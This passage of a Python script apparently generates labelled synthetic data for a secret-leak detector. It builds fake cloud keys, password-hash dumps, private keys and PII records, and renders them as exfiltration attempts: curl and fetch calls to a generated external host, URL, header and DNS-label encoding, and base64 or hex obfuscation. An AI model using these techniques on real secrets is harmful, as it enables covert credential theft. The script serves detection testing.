    ('cn-resident-id', cn_id, 'id_card'), ('jp-my-number', my_number, 'my_number'), ('kr-rrn', kr_rrn, 'rrn'),
    ('sg-nric', nric, 'nric'), ('hk-hkid', hkid, 'hkid'), ('tw-national-id', tw_id, 'national_id'),
    ('au-tfn', tfn, 'tfn'), ('au-medicare-number', medicare_au, 'medicare_number'), ('nz-ird-number', ird, 'ird_number'),
    ('za-id-number', za_id, 'id_number'), ('il-teudat-zehut', il_id, 'teudat_zehut'), ('tr-tc-kimlik', tckn, 'tc_kimlik_no'),
    ('ie-ppsn', ppsn, 'ppsn'), ('ch-ahv-number', ahv, 'ahv_nr'), ('ee-isikukood', isikukood, 'isikukood'),
    ('ro-cnp', cnp, 'cnp'), ('bg-egn', egn, 'egn'), ('hr-oib', oib, 'oib'), ('cz-rodne-cislo', rodne, 'rodne_cislo'),
    ('gr-amka', amka, 'amka'), ('is-kennitala', kennitala, 'kennitala'), ('passport-mrz', mrz, 'mrz'),
    ]


def der(tag, c):
    n = len(c)
    if n < 128: l = bytes([n])
    else:
        lb = n.to_bytes((n.bit_length() + 7) // 8, 'big'); l = bytes([0x80 | len(lb)]) + lb
    return bytes([tag]) + l + c


def dint(nbytes):
    b = bytes([R.randrange(128, 256)]) + rb(nbytes - 1); return der(2, b'\x00' + b)


def rsa_der():
    return der(0x30, der(2, b'\x00') + dint(256) + der(2, b'\x01\x00\x01') + dint(256) + dint(128) + dint(128) + dint(128) + dint(128) + dint(128))


def pkcs8_der():
    alg = der(0x30, der(6, bytes.fromhex('2a864886f70d010101')) + b'\x05\x00')
    return der(0x30, der(2, b'\x00') + alg + der(4, rsa_der()))


def ec_der():
    return der(0x30, der(2, b'\x01') + der(4, rb(32)) + der(0xa0, der(6, bytes.fromhex('2a8648ce3d030107'))) + der(0xa1, der(3, b'\x00\x04' + rb(64))))


def openssh_blob():
    s = lambda b: struct.pack('>I', len(b)) + b
    pub = s(b'ssh-ed25519') + s(rb(32)); ck = rb(4)
    priv = ck + ck + pub + s(rb(64)) + s(b'deploy@build') + b'\x01\x02\x03'
    return b'openssh-key-v1\x00' + s(b'none') + s(b'none') + s(b'') + struct.pack('>I', 1) + s(pub) + s(priv)


def pem(kind, data):
    body = '\n'.join(b64(data)[i:i + 64] for i in range(0, len(b64(data)), 64))
    return f"-----BEGIN {kind}{PKW}-----\n{body}\n-----END {kind}{PKW}-----\n"


def ini(sec, kv): return f"[{sec}]\n" + ''.join(f"{k} = {v}\n" for k, v in kv)


def _docs():
    def d(doc, ct, val, var): return dict(doc=doc, ct=ct, val=val, var=var)
    def aws_creds():
        a, s_ = 'AKIA' + rs(16, B32), rs(40, B64)
        return d(ini('default', [('aws_access_key_id', a), ('aws_secret_access_key', s_), ('region', 'us-east-1')]), 'text/plain', a + ':' + s_, 'aws_credentials')
    def gcp_sa():
        k = pem('', pkcs8_der()); p = word() + '-' + dg(6)
        j = json.dumps({"type": "service_account", "project_id": p, "private_key_id": hx(40), "private_key": k,
                        "client_email": f"deployer@{p}.iam.gserviceaccount.com", "client_id": dg(21),
                        "auth_uri": "https://accounts.google.com/o/oauth2/auth", "token_uri": "https://oauth2.googleapis.com/token"}, indent=2)
        return d(j, 'application/json', b64(pkcs8_der())[:200], 'gcp_service_account')
    def adc():
        s_ = 'GOCSPX-' + rs(28, B64U); r_ = '1//0' + ch('cdefg') + rs(98, B64U)
        return d(json.dumps({"client_id": dg(12) + "-" + rs(32, ANL) + ".apps.googleusercontent.com", "client_secret": s_, "refresh_token": r_, "type": "authorized_user"}, indent=1), 'application/json', r_, 'refresh_token')
    def kubeconfig():
        kd = b64(pem('RSA ', rsa_der())); tok = jwt({"sub": "system:serviceaccount:kube-system:admin", "iat": epoch()})
        y = (f"apiVersion: v1\nkind: Config\nclusters:\n- cluster:\n    server: https://{hx(32).upper()}.gr7.us-east-1.eks.amazonaws.com\n  name: prod\n"
             f"users:\n- name: admin\n  user:\n    client-certificate-data: {b64(rb(600))}\n    client-key-data: {kd}\n    token: {tok}\n")
        return d(y, 'application/x-yaml', tok, 'kube_token')
    def k8s_secret():
        p_ = pwa(); y = (f"apiVersion: v1\nkind: Secret\nmetadata:\n  name: {word()}-db\n  namespace: prod\ntype: Opaque\ndata:\n"
                         f"  username: {b64('app')}\n  password: {b64(p_)}\n  api-key: {b64('sk_live_' + rs(99))}\n")
        return d(y, 'application/x-yaml', p_, 'db_password')
    def dockercfg():
        t = 'dckr_pat_' + rs(27, B64U); a = b64(f"{word()}bot:{t}")
        return d(json.dumps({"auths": {"https://index.docker.io/v1/": {"auth": a}, "ghcr.io": {"auth": b64(word() + ':' + gh('ghp_'))}}}, indent=2), 'application/json', a, 'docker_auth')
    def npmrc():
        t = 'npm_' + rs(36); return d(f"registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken={t}\nalways-auth=true\n", 'text/plain', t, 'npm_token')
    def pypirc():
        t = 'pypi-AgEIcHlwaS5vcmc' + rs(150, B64U); return d(f"[distutils]\nindex-servers =\n    pypi\n\n[pypi]\nusername = __token__\npassword = {t}\n", 'text/plain', t, 'pypi_token')
    def netrc():
        p_ = pwa(); return d(f"machine api.heroku.com\n  login {email()}\n  password {p_}\nmachine git.example.com login ci password {pwa()}\n", 'text/plain', p_, 'netrc_password')
    def git_creds():
        t = gh('ghp_'); return d(f"https://{ch(FIRST).lower()}:{t}@github.com\nhttps://oauth2:glpat-{rs(20, B64U)}@gitlab.com\n", 'text/plain', t, 'git_token')
    def maven():
        p_ = pwa(); return d(f"<settings>\n  <servers>\n    <server>\n      <id>releases</id>\n      <username>deploy</username>\n      <password>{p_}</password>\n    </server>\n  </servers>\n</settings>\n", 'application/xml', p_, 'maven_password')
    def gradle():
        p_ = pwa(); return d(f"org.gradle.jvmargs=-Xmx2g\nsigning.keyId={hx(8).upper()}\nsigning.password={p_}\nossrhUsername={word()}\nossrhPassword={pwa()}\n", 'text/plain', p_, 'signing_password')
    def composer():
        t = gh('ghp_'); return d(json.dumps({"github-oauth": {"github.com": t}, "http-basic": {"repo.packagist.com": {"username": "token", "password": hx(40)}}}, indent=4), 'application/json', t, 'composer_token')
    def htpasswd():
        l = [f"{ch(FIRST).lower()}:$apr1${rs(8, AN + './')}${rs(22, AN + './')}" for _ in range(2)] + \
            [f"admin:$2y$10${rs(53, './' + AN)}"]
        return d('\n'.join(l) + '\n', 'text/plain', l[2], 'htpasswd')
    def shadow():
        l = [f"root:$6${rs(16, AN + './')}${rs(86, AN + './')}:19700:0:99999:7:::", "daemon:*:19700:0:99999:7:::",
             f"{ch(FIRST).lower()}:$y$j9T${rs(22, AN + './')}${rs(43, AN + './')}:19701:0:99999:7:::"]
        return d('\n'.join(l) + '\n', 'text/plain', l[0], 'shadow')
    def pwdump():
        l = [f"{n}:{500 + i}:aad3b435b51404eeaad3b435b51404ee:{hx(32)}:::" for i, n in enumerate(['Administrator', 'Guest', 'krbtgt', ch(FIRST).lower()])]
        return d('\n'.join(l) + '\n', 'text/plain', l[0], 'ntlm_hash')
    def mysqlh():
        l = ["user,host,authentication_string"] + [f"{n},%,*{hx(40).upper()}" for n in ['root', 'app', 'backup']]
        return d('\n'.join(l) + '\n', 'text/csv', l[1], 'mysql_hash')
    def scram():
        v = f"SCRAM-SHA-256$4096:{b64(rb(16))}${b64(rb(32))}:{b64(rb(32))}"
        return d(f"COPY pg_authid (rolname, rolpassword) FROM stdin;\npostgres\t{v}\napp\tmd5{hx(32)}\n\\.\n", 'text/plain', v, 'pg_hash')
    def phpass():
        v = f"$P$B{rs(30, './' + AN)}"
        return d(f"INSERT INTO `wp_users` (`ID`, `user_login`, `user_pass`, `user_email`) VALUES (1, 'admin', '{v}', '{email()}');\n", 'application/sql', v, 'wp_hash')
    def django():
        k = 'django-insecure-' + rs(50, LO + DIG + '!@#$%^&*(-_=+)')
        return d(f"DEBUG = False\nALLOWED_HOSTS = ['*']\nSECRET_KEY = '{k}'\nDATABASES = {{'default': {{'ENGINE': 'django.db.backends.postgresql', 'PASSWORD': '{pwa()}'}}}}\n", 'text/x-python', k, 'SECRET_KEY')
    def rails():
        k = hx(128); return d(f"production:\n  secret_key_base: {k}\n", 'application/x-yaml', k, 'secret_key_base')
    def laravel():
        k = 'base64:' + b64(rb(32)); return d(f"APP_NAME=Laravel\nAPP_ENV=production\nAPP_KEY={k}\nDB_PASSWORD={pwa()}\n", 'text/plain', k, 'APP_KEY')
    def tfstate():
        p_ = pwa(); j = {"version": 4, "terraform_version": "1.7.4", "resources": [{"mode": "managed", "type": "aws_db_instance", "name": "main", "instances": [{"attributes": {"username": "dbadmin", "password": p_, "endpoint": word() + ".cluster.rds.amazonaws.com"}, "sensitive_attributes": [[{"type": "get_attr", "value": "password"}]]}]}]}
        return d(json.dumps(j, indent=2), 'application/json', p_, 'rds_password')
    def tfvars():
        t = rs(14) + '.atlasv1.' + rs(67); return d(f'region = "eu-west-1"\ndb_password = "{pwa()}"\ncloudflare_api_token = "{rs(40, B64U)}"\ntfe_token = "{t}"\n', 'text/plain', t, 'tfe_token')
    def compose():
        p_ = pwa(); return d(f"services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_USER: app\n      POSTGRES_PASSWORD: {p_}\n  api:\n    image: ghcr.io/{word()}/api:1.4\n    environment:\n      - STRIPE_SECRET_KEY=sk_live_{rs(99)}\n", 'application/x-yaml', p_, 'POSTGRES_PASSWORD')
    def ansible():
        p_ = pwa(); return d(f"[web]\n{ip()} ansible_user=admin ansible_password={p_} ansible_become_pass={p_}\n", 'text/plain', p_, 'ansible_password')
    def spring():
        p_ = pwa(); return d(f"spring.datasource.url=jdbc:mysql://db:3306/app\nspring.datasource.username=app\nspring.datasource.password={p_}\nspring.mail.password={pwa()}\n", 'text/plain', p_, 'spring.datasource.password')
    def appsettings():
        p_ = pw(); return d(json.dumps({"ConnectionStrings": {"Default": f"Server=sql01;Database=app;User Id=sa;Password={p_};"}, "Logging": {"LogLevel": {"Default": "Information"}}}, indent=2), 'application/json', p_, 'sa_password')
    def wpconfig():
        p_ = pwa(); return d(f"<?php\ndefine( 'DB_NAME', 'wordpress' );\ndefine( 'DB_USER', 'wp' );\ndefine( 'DB_PASSWORD', '{p_}' );\ndefine( 'AUTH_KEY', '{rs(64, AN + '!@#%^&*()-_[]{{}}<>~+=,.;:/?|')}' );\n", 'text/x-php', p_, 'DB_PASSWORD')
    def unattend():
        p_ = pwa(); return d(f'<?xml version="1.0"?>\n<unattend xmlns="urn:schemas-microsoft-com:unattend">\n <UserAccounts><AdministratorPassword><Value>{p_}</Value><PlainText>true</PlainText></AdministratorPassword></UserAccounts>\n</unattend>\n', 'application/xml', p_, 'AdministratorPassword')
    def wpa():
        p_ = pwa(); return d(f'network={{\n    ssid="{word()}-corp"\n    psk="{p_}"\n    key_mgmt=WPA-PSK\n}}\n', 'text/plain', p_, 'wifi_psk')
    def filezilla():
        p_ = pwa(); return d(f'<?xml version="1.0" encoding="UTF-8"?>\n<FileZilla3><Servers><Server><Host>ftp.{word()}.example.com</Host><Port>21</Port><User>deploy</User><Pass encoding="base64">{b64(p_)}</Pass></Server></Servers></FileZilla3>\n', 'application/xml', p_, 'ftp_password')
    def gha():
        t = 'npm_' + rs(36); return d(f"name: release\non: push\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    env:\n      NODE_AUTH_TOKEN: {t}\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm publish\n", 'application/x-yaml', t, 'NODE_AUTH_TOKEN')
    def ipynb():
        k = 'sk-proj-' + rs(74, B64U) + 'T3BlbkFJ' + rs(74, B64U)
        return d(json.dumps({"cells": [{"cell_type": "code", "source": ["import openai\n", f"openai.api_key = \"{k}\"\n"], "outputs": []}], "nbformat": 4, "nbformat_minor": 5}), 'application/json', k, 'openai_key')
    def oauth_cc():
        s_ = rs(64, B64U); return d(up.urlencode({"grant_type": "client_credentials", "client_id": rs(32, AN), "client_secret": s_, "scope": "api"}), 'application/x-www-form-urlencoded', s_, 'client_secret')
    def login_form():
        p_ = pw(); return d(up.urlencode({"username": email(), "password": p_, "remember": "1"}), 'application/x-www-form-urlencoded', p_, 'password')
    def csv_pii():
        rows = ["first_name,last_name,dob,ssn,email"]
        for _ in range(4):
            f, l = person(); y, m, dd = dob(); rows.append(f"{f},{l},{y}-{m:02d}-{dd:02d},{ssn()},{email(f, l)}")
        return d('\n'.join(rows) + '\n', 'text/csv', rows[1], 'customer_record')
    def patient():
        f, l = person(); y, m, dd = dob(); n = nhs()
        return d(json.dumps({"resourceType": "Patient", "identifier": [{"system": "https://fhir.nhs.uk/Id/nhs-number", "value": n.replace(' ', '')}], "name": [{"family": l, "given": [f]}], "birthDate": f"{y}-{m:02d}-{dd:02d}", "condition": "type 2 diabetes"}), 'application/fhir+json', n, 'patient')
    def keyfile(kind, data, name):
        return lambda: dict(doc=pem(kind, data()), ct='application/x-pem-file', val=None, var=name, fname=name)
    def ppk():
        pub = b64(rb(279)); prv = b64(rb(656))
        t = ("PuTTY-User-Key-File-3: ssh-rsa\nEncryption: none\nComment: rsa-key-20240301\nPublic-Lines: 6\n" +
             '\n'.join(pub[i:i + 64] for i in range(0, len(pub), 64)) + "\nPrivate-Lines: 14\n" +
             '\n'.join(prv[i:i + 64] for i in range(0, len(prv), 64)) + f"\nPrivate-MAC: {hx(64)}\n")
        return d(t, 'text/plain', None, 'putty_key')
    def pgp():
        blob = b'\x95\x03\xc6\x04' + rb(900); s = b64(blob)
        t = (f"-----BEGIN PGP {PKW} BLOCK-----\n\n" + '\n'.join(s[i:i + 64] for i in range(0, len(s), 64)) +
             f"\n={b64(rb(3))}\n-----END PGP {PKW} BLOCK-----\n")
        return d(t, 'application/pgp-keys', None, 'pgp_key')
    def ovpn():
        return d(f"client\ndev tun\nremote vpn.{word()}.example.com 1194\n<ca>\n-----BEGIN CERTIFICATE-----\n{b64(rb(300))}\n-----END CERTIFICATE-----\n</ca>\n<key>\n{pem('', pkcs8_der())}</key>\n", 'application/x-openvpn-profile', None, 'vpn_key')
    def der_rsa(): return dict(doc=rsa_der(), ct='application/octet-stream', val=None, var='id_rsa.der', fname='id_rsa.der')
    def p12():
        blob = der(0x30, der(2, b'\x03') + der(0x30, der(6, bytes.fromhex('2a864886f70d010701')) + der(0xa0, der(4, rb(1400)))) + der(0x30, der(0x30, der(0x30, der(6, bytes.fromhex('2b0e03021a')) + b'\x05\x00') + der(4, rb(20))) + der(4, rb(8)) + der(2, b'\x08\x00')))
        return dict(doc=blob, ct='application/x-pkcs12', val=None, var='client.p12', fname='client.p12')
    def jks():
        alias = b'server'; key = rb(1218)
        body = b'\xfe\xed\xfe\xed' + struct.pack('>II', 2, 1) + struct.pack('>I', 1) + struct.pack('>H', len(alias)) + alias + \
            struct.pack('>Q', 1709294400000) + struct.pack('>I', len(key)) + key + struct.pack('>I', 0)
        return dict(doc=body + hashlib.sha1(body).digest(), ct='application/octet-stream', val=None, var='keystore.jks', fname='keystore.jks')
    def keytab():
        pr = b'\x00\x01' + struct.pack('>H', 11) + b'EXAMPLE.COM' + struct.pack('>H', 4) + b'HTTP' + struct.pack('>I', 1) + struct.pack('>I', 1709294400) + b'\x02' + struct.pack('>H', 18) + struct.pack('>H', 32) + rb(32)
        return dict(doc=b'\x05\x02' + struct.pack('>i', len(pr)) + pr, ct='application/octet-stream', val=None, var='http.keytab', fname='http.keytab')
    return [
        ('aws-credentials-file', aws_creds), ('gcp-service-account-json', gcp_sa), ('gcp-authorized-user-credentials', adc),
        ('kubeconfig-with-credentials', kubeconfig), ('k8s-secret-manifest', k8s_secret), ('docker-config-json-auth', dockercfg),
        ('npmrc-auth-token', npmrc), ('pypirc-password', pypirc), ('netrc-credentials', netrc), ('git-credentials-file', git_creds),
        ('maven-settings-password', maven), ('gradle-properties-credentials', gradle), ('composer-auth-json', composer),
        ('htpasswd-file', htpasswd), ('unix-shadow-file', shadow), ('ntlm-hash-dump', pwdump), ('mysql-password-hash-dump', mysqlh),
        ('postgres-password-hash-dump', scram), ('wordpress-password-hash', phpass), ('django-secret-key', django),
        ('rails-secret-key-base', rails), ('laravel-app-key', laravel), ('terraform-state-secret', tfstate),
        ('terraform-tfvars-secret', tfvars), ('docker-compose-secret-env', compose), ('ansible-inventory-password', ansible),
        ('spring-properties-password', spring), ('dotnet-appsettings-connection-string', appsettings), ('wp-config-db-password', wpconfig),
        ('windows-unattend-password', unattend), ('wpa-supplicant-psk', wpa), ('filezilla-saved-password', filezilla),
        ('ci-workflow-hardcoded-token', gha), ('jupyter-notebook-api-key', ipynb), ('oauth-client-credentials-form', oauth_cc),
        ('plaintext-password-login-form', login_form), ('pii-customer-records-csv', csv_pii), ('health-record-with-nhs-number', patient),
        ('rsa-private-key-pem', keyfile('RSA ', rsa_der, 'id_rsa')), ('ec-private-key-pem', keyfile('EC ', ec_der, 'ec.key')),
        ('pkcs8-private-key-pem', keyfile('', pkcs8_der, 'server.key')), ('openssh-private-key', keyfile('OPENSSH ', openssh_blob, 'id_ed25519')),
        ('encrypted-pkcs8-private-key', keyfile('ENCRYPTED ', lambda: der(0x30, der(0x30, der(6, bytes.fromhex('2a864886f70d01050d')) + der(0x30, rb(60))) + der(4, rb(1216))), 'key.enc.pem')),
        ('putty-ppk-private-key', ppk), ('pgp-private-key-block', pgp), ('openvpn-profile-with-key', ovpn),
        ('rsa-private-key-der', der_rsa), ('pkcs12-keystore', p12), ('java-keystore-jks', jks), ('kerberos-keytab', keytab),
    ]

# ---------------------------------------------------------------- positive renderers
def benign_env():
    return [f"NODE_ENV=production", f"PORT={ri(3000, 9000)}", f"LOG_LEVEL={ch(['info', 'debug', 'warn'])}", f"REGION={ch(['eu-west-1', 'us-east-2'])}", f"APP_NAME={word()}"]


def splitn(s, n):
    k = max(1, -(-len(s) // n)); return [s[i:i + k] for i in range(0, len(s), k)]


def tok_body(var, val, hdr):
    lv = var.lower(); svc = ch(SVC); kind = ri(0, 39)
    if kind == 0:
        l = benign_env() + [f"{var}={val}"]; R.shuffle(l); return 'text/plain', '\n'.join(l) + '\n'
    if kind == 1: return 'application/json', json.dumps({"service": svc, "env": "prod", lv: val, "ts": ts()}, indent=2)
    if kind == 2: return 'application/x-yaml', f"service:\n  name: {svc}\n  credentials:\n    {lv}: \"{val}\"\n  replicas: {ri(1, 5)}\n"
    if kind == 3: return 'application/toml', f"[service]\nname = \"{svc}\"\n\n[auth]\n{lv} = \"{val}\"\n"
    if kind == 4: return 'text/plain', f"; {svc} settings\n[default]\n{lv} = {val}\ntimeout = 30\n"
    if kind == 5: return 'text/plain', f"app.name={svc}\napp.{lv.replace('_', '.')}={val}\nserver.port=8080\n"
    if kind == 6: return 'application/xml', f"<?xml version=\"1.0\"?>\n<configuration><appSettings><add key=\"{var}\" value=\"{html.escape(val)}\"/></appSettings></configuration>\n"
    if kind == 7: return 'text/plain', f'variable "{lv}" {{\n  type      = string\n  sensitive = true\n  default   = "{val}"\n}}\n'
    if kind == 8: return 'text/plain', f"FROM node:20-alpine\nWORKDIR /app\nENV {var}=\"{val}\"\nCOPY . .\nRUN npm ci\nCMD [\"node\", \"server.js\"]\n"
    if kind == 9: return 'application/x-yaml', f"apiVersion: v1\nkind: Secret\nmetadata:\n  name: {svc}-secret\ntype: Opaque\ndata:\n  {lv.replace('_', '-')}: {b64(val)}\n"
    if kind == 10: return 'text/plain', f"  501  cd ~/src/{svc}\n  502  export {var}='{val}'\n  503  make deploy\n  504  history | tail\n"
    if kind == 11:
        h = (hdr or 'Authorization: Bearer {}').format(val)
        return 'application/json', json.dumps({"tool": "bash", "input": {"command": f"curl -sS -H '{h}' https://api.{svc}.example.com/v1/status"}})
    if kind == 12: return 'text/plain', f"{ts()} INFO  [{svc}] outbound request headers={{'User-Agent': 'agent/1.2', '{var}': '{val}'}} status=200\n"
    if kind == 13: return 'text/plain', (f"Traceback (most recent call last):\n  File \"/app/{svc}.py\", line {ri(10, 300)}, in connect\n    client = Client(token=token)\n"
                                         f"  locals: token = '{val}'\nConnectionError: 503 Service Unavailable\n")
    if kind == 14: return 'application/sql', f"INSERT INTO integrations (name, secret, created_at) VALUES ('{svc}', '{val}', '{ts()}');\n"
    if kind == 15: return 'text/csv', f"name,{lv},owner\n{svc},\"{val}\",{ch(FIRST).lower()}\n"
    if kind == 16: return 'application/json', json.dumps({"query": "mutation Set($v: String!) { setSecret(name: \"%s\", value: $v) { id } }" % var, "variables": {"v": val}})
    if kind == 17: return 'text/plain', f'credential {{\n  name: "{var}"\n  value: "{val}"\n  scope: SCOPE_PROD\n}}\n'
    if kind == 18: return 'application/x-www-form-urlencoded', up.urlencode([("source", "agent"), (lv, val), ("v", "2")])
    if kind == 19:
        bd = '----agent' + hx(16)
        return f'multipart/form-data; boundary={bd}', (f"--{bd}\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nsync\r\n--{bd}\r\n"
                                                        f"Content-Disposition: form-data; name=\"file\"; filename=\".env\"\r\nContent-Type: text/plain\r\n\r\n{var}={val}\r\n--{bd}--\r\n")
    if kind == 20: return 'text/x-python', f"import os\nfrom {svc} import Client\n\nclient = Client(api_key=\"{val}\")\n"
    if kind == 21: return 'application/json', json.dumps({"blob": b64(f"{var}={val}\n")})
    if kind == 22: return 'application/json', json.dumps({"data": b64(b64(f"{var}={val}"))})
    if kind == 23: return 'application/json', json.dumps({"b32": b32(f"{var}={val}")})
    if kind == 24: return 'application/json', json.dumps({"k": lv, "hex": enc(val).hex()})
    if kind == 25:
        sep = ch([':', ' ', ',', '\\x']); h = [f"{c:02x}" for c in enc(val)]
        return 'text/plain', (('\\x' + '\\x'.join(h)) if sep == '\\x' else sep.join(h)) + '\n'
    if kind == 26: return 'application/json', json.dumps({"note": "rev", "v": val[::-1]})
    if kind == 27: return 'application/javascript', f"const k = String.fromCharCode({', '.join(str(ord(c)) for c in val)});\nfetch('https://{exhost()}/c?k=' + k);\n"
    if kind == 28:
        parts = splitn(val, ri(3, 6)); return 'application/javascript', f"const {lv} = " + ' + '.join(json.dumps(p) for p in parts) + ";\n"
    if kind == 29:
        parts = splitn(val, 3); return 'application/json', json.dumps({"a": parts[0], "b": parts[1] if len(parts) > 1 else '', "c": parts[2] if len(parts) > 2 else '', "join": "a+b+c"})
    if kind == 30: return 'application/json', json.dumps({"tool": "http_post", "payload": json.dumps({"env": {var: val}})})
    if kind == 31: return 'application/json', '{"' + lv + '": "' + ''.join('\\u%04x' % ord(c) for c in val) + '"}'
    if kind == 32:
        sep = ch(['-', ' ', '.', '|']); n = ch([2, 4, 5]); return 'text/plain', f"{lv}: " + sep.join(val[i:i + n] for i in range(0, len(val), n)) + '\n'
    if kind == 33: return 'application/x-www-form-urlencoded', 'k=' + lv + '&v=' + ''.join('%%%02X' % c for c in enc(val))
    if kind == 34: return 'text/plain', f"{var}:\n" + '\n'.join(splitn(val, max(2, len(val) // 8))) + '\n'
    if kind == 35: return 'application/json', json.dumps({"chunks": [{"i": i, "d": p} for i, p in enumerate(splitn(val, ri(3, 5)))]})
    if kind == 36: return 'application/json', json.dumps({"messages": [{"role": "tool", "content": f"Found in ~/.config/{svc}: {var}={val}"}]})
    if kind == 37: return 'text/x-shellscript', f"#!/bin/sh\ncurl -s -X POST https://{exhost()}/u -d \"{lv}={up.quote(val, safe='')}\"\n"
    if kind == 38: return 'application/json', json.dumps([{"op": "replace", "path": f"/config/{lv}", "value": val}])
    return 'application/json', json.dumps({"event": "debug", "props": {"env_dump": f"HOME=/root;{var}={val};PATH=/usr/bin"}})


def container(ct, data, name):
    c = ri(0, 6)
    if c == 0: return dict(content_type=ct, content_encoding='gzip', b=gz(data))
    if c == 1: return dict(content_type=ct, content_encoding='deflate', b=dfl(data))
    if c == 2: return dict(content_type='application/zip', b=mkzip([(name, data)]))
    if c == 3: return dict(content_type='application/gzip', b=mktar([(name, data)]))
    if c == 4: return dict(content_type='application/json', t=json.dumps({"filename": name, "content_b64": b64(data)}))
    if c == 5: return dict(content_type='application/octet-stream', b=gz(data))
    bd = '----x' + hx(12)
    return dict(content_type=f'multipart/form-data; boundary={bd}', b=(f"--{bd}\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"{name}\"\r\nContent-Type: application/octet-stream\r\n\r\n").encode() + enc(data) + f"\r\n--{bd}--\r\n".encode())


def tok_url(var, val):
    lv = var.lower(); h = exhost(); k = ri(0, 7)
    if k == 0: return f"https://{h}/v1/collect?{lv}={up.quote(val, safe='')}&src=agent"
    if k == 1: return f"https://{h}/p/{up.quote(val, safe='')}/ping.gif"
    if k == 2: return f"https://{h}/i?d={b64u(f'{var}={val}')}"
    if k == 3: return f"https://{h}/t.png?h={enc(val).hex()}"
    if k == 4: return f"https://{h}/s?" + '&'.join(f"p{i}={up.quote(p, safe='')}" for i, p in enumerate(splitn(val, 3)))
    if k == 5: return f"https://{h}/q?x=" + ''.join('%%%02X' % c for c in enc(val))
    if k == 6: return f"https://api.{word()}.example.com/v2/search?q=status&{ch(['api_key', 'token', 'access_token', 'key'])}={up.quote(val, safe='')}"
    return f"https://{h}/r?v={up.quote(val[::-1], safe='')}"


def tok_header(var, val, hdr):
    k = ri(0, 6)
    if hdr and k < 3: return hdr.format(val)
    if k == 3: return f"X-Client-Data: {b64(f'{var}={val}')}"
    if k == 4: return f"X-Debug-Context: {enc(val).hex()}"
    if k == 5: return f"Cookie: _ga=GA1.1.{dg(9)}.{epoch()}; {var.lower()}={up.quote(val, safe='')}"
    return ch(['X-Api-Key', 'X-Auth-Token', 'X-Access-Token', 'Api-Key']) + f": {val}"


def tok_host(val):
    raw = enc(val)
    if re.fullmatch(r'[0-9-]+', val.replace(' ', '')) and R.random() < 0.5:
        s = re.sub(r'[^0-9]', '', val); labels = [s]
    elif len(raw) <= 55 and R.random() < 0.5:
        s = raw.hex(); labels = splitn(s, -(-len(s) // ri(30, 60)))
    else:
        s = b32(raw).rstrip('=').lower(); labels = [s[i:i + 60] for i in range(0, len(s), 60)]
    host = '.'.join(labels) + '.' + ch(['', f"{ri(1, 9)}.", 'q.']) + exhost()
    return host if len(host) <= 253 and all(len(l) <= 63 for l in host.split('.')) else None


def all_classes():
    C = []
    for n, g, v, h in _tok() + _conn(): C.append((n, 'tok', (g, v, h)))
    for n, g, v in _pii(): C.append((n, 'pii', (g, v, None)))
    for n, g in _docs(): C.append((n, 'doc', g))
    return C


def make_pos():
    C = all_classes(); N = 420
    slots = [c for c in C] + [C[R.randrange(len(C))] for _ in range(N - len(C))]
    R.shuffle(slots)
    quota = [('hostname', 34), ('url', 55), ('header', 59)]
    wh = ['body'] * N; used = set()
    for where, q in quota:
        got = 0
        for i, s in enumerate(slots):
            if got >= q: break
            if i in used: continue
            if where == 'hostname' and (s[1] == 'doc' or len(enc(s[2][0]())) > 90): continue
            used.add(i); wh[i] = where; got += 1
    out = []
    for s, where in zip(slots, wh):
        name, kind, g = s
        for _ in range(20):
            c = render_pos(name, kind, g, where)
            if c: c['expect'] = name; break
        out.append(c)
    return out


def render_pos(name, kind, g, where):
    if kind in ('tok', 'pii'):
        gen, var, hdr = g; val = gen()
        if kind == 'pii' and where == 'body' and R.random() < 0.5:
            f, l = person(); y, m, d = dob()
            rec = {"name": f"{f} {l}", "email": email(f, l), "dob": f"{y}-{m:02d}-{d:02d}", var: val}
            if R.random() < 0.5: return dict(where='body', content_type='application/json', t=json.dumps({"records": [rec]}))
            ct, t = tok_body(var, json.dumps(rec), None); return dict(where='body', content_type=ct, t=t)
        if where == 'body':
            ct, t = tok_body(var, val, hdr)
            if R.random() < 0.2: x = container(ct, t, ch(['.env', 'config.json', 'notes.txt', 'dump.log'])); x['where'] = 'body'; return x
            return dict(where='body', content_type=ct, t=t)
        if where == 'url': return dict(where='url', t=tok_url(var, val))
        if where == 'header':
            if '\n' in val: val = val.replace('\n', ' ')
            return dict(where='header', t=tok_header(var, val, hdr))
        if '\n' in val: val = val.replace('\n', '')
        h = tok_host(val); return dict(where='hostname', t=h) if h else None
    x = g(); doc = x['doc']; name_ = x.get('fname') or ch(['config', 'backup', 'export']) + ch(['.txt', '.dat'])
    val = x['val'] if x['val'] else (b64(doc) if isinstance(doc, bytes) else doc)
    if where == 'url': return dict(where='url', t=f"https://{exhost()}/up?f={up.quote(name_)}&d={b64u(gz(doc) if len(enc(doc)) > 600 else doc)}")
    if where == 'header': return dict(where='header', t=f"X-Sync-Blob: {b64(gz(doc) if len(enc(doc)) > 600 else doc)}")
    if isinstance(doc, bytes) or R.random() < 0.45:
        y = container(x['ct'], doc, name_); y['where'] = 'body'; return y
    if R.random() < 0.2:
        return dict(where='body', content_type='application/json', t=json.dumps({"tool": "write_file", "path": f"/tmp/{name_}", "content": doc}))
    return dict(where='body', content_type=x['ct'], t=doc)

# ---------------------------------------------------------------- negatives
def sha(n=64): return hx(n)
def png():
    raw = b'\x89PNG\r\n\x1a\n' + struct.pack('>I', 13) + b'IHDR' + struct.pack('>IIBBBBB', ri(8, 64), ri(8, 64), 8, 6, 0, 0, 0) + rb(4)
    idat = dfl(bytes(ri(0, 3) for _ in range(ri(200, 600))))
    return raw + struct.pack('>I', len(idat)) + b'IDAT' + idat + rb(4) + b'\x00\x00\x00\x00IEND\xaeB`\x82'
def nonluhn(n):
    while True:
        s = ch('123456789') + dg(n - 1)
        if not luhn_ok(s): return s
def ulid(): return rs(26, '0123456789ABCDEFGHJKMNPQRSTVWXYZ')
def traceid(): return hx(32)
def spanid(): return hx(16)
def cursor(): return b64u(json.dumps({"offset": ri(0, 5000), "sort": "created_at", "id": uuid4()}))
def cdnhost(): return ch([f"d{rs(13, ANL)}.cloudfront.net", f"{word()}-{rs(6, ANL)}.azureedge.net", f"cdn.{word()}.example.com"])


def NEG():
    J = lambda o: ('application/json', json.dumps(o, indent=ch([None, 2])))
